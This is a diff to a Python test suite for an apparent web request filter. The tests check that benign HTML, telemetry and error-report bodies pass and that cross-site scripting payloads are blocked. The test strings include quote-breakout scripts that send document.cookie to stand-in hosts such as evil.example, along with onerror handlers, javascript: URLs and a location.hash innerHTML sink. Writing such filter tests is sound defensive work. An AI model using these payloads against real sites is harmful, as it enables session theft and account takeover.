@@ -267,7 +267,7 @@ def test_javascript_function_sources_in_telemetry_pass():
     assert passes(Request.make("POST", "/logstores/track", XHR, json.dumps(logs)))
     # the same field carrying code that runs: a quote breakout, an invoked function literal
     assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": "';alert(document.cookie)//"}))).blocked
-    iife = "(function(){document.location='//evil.example/?'+document.cookie})()"
+    iife = "x');(function(){document.location='//evil.example/?'+document.cookie})()//"
     assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": iife}))).blocked
 
 
@@ -296,6 +296,36 @@ def test_session_replay_tag_names_and_inert_link_targets_pass():
     for attack in ("<iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                    "javascript:void 0;alert(1)"):  # fmt: skip
         assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked
+
+
+def test_rich_text_html_with_media_and_icons_passes():
+    post = ('<p>Release notes</p><p><img src="https://cdn.example.com/u/42/shot.png" alt="screenshot" width="640"></p>'
+            '<video src="https://media.example.com/demo.mp4" controls poster="https://media.example.com/demo.jpg"></video>'
+            '<p><svg class="icon" viewBox="0 0 24 24"><use href="#icon-check"></use></svg> done</p>'
+            '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="></p>')  # fmt: skip
+    assert passes(Request.make("POST", "/api/posts", XHR, json.dumps({"title": "v2", "content": post})))
+    form = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Content-Type": "application/x-www-form-urlencoded"}
+    from urllib.parse import urlencode
+
+    assert passes(Request.make("POST", "/comment", form, urlencode({"body": post})))
+    for attack in ('<video src=x onerror="alert(1)">', '<svg><set attributeName=href to="javascript:alert(1)">',
+                   '<img src=x onerror=alert(document.domain)>'):  # fmt: skip
+        assert inspect(Request.make("POST", "/comment", form, urlencode({"body": attack}))).blocked
+
+
+def test_source_snippets_in_error_reports_pass():
+    # an error tracker's event: the lines of source around the failing one, sent by the page's script
+    event = {"exception": {"values": [{"type": "TypeError", "stacktrace": {"frames": [{
+        "filename": "https://app.example.com/static/js/main.3f2a9c.js", "function": "render", "lineno": 41,
+        "pre_context": ["  const el = document.getElementById('out');", "  if (!el) return;"],
+        "context_line": "  el.innerHTML = template(data); document.title = data.title;",
+        "post_context": ["  setTimeout(refresh, 5000);", "}"]}]}}]}}  # fmt: skip
+    assert passes(Request.make("POST", "/api/42/store/", XHR, json.dumps(event)))
+    # the same sink behind a breakout in a JSON value; and run as it is in a link a victim follows
+    assert inspect(Request.make("POST", "/api/42/store/", XHR, json.dumps({"message": "x';document.location='//e/'+document.cookie//"}))).blocked
+    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
+    assert inspect(Request.make("GET", "/search?q=document.getElementById('out').innerHTML%3Dlocation.hash", nav)).blocked
+    assert inspect(Request.make("GET", "/search?cb=alert(document.domain)", nav)).blocked
 
 
 def test_inline_images_and_cidr_blocks_pass():
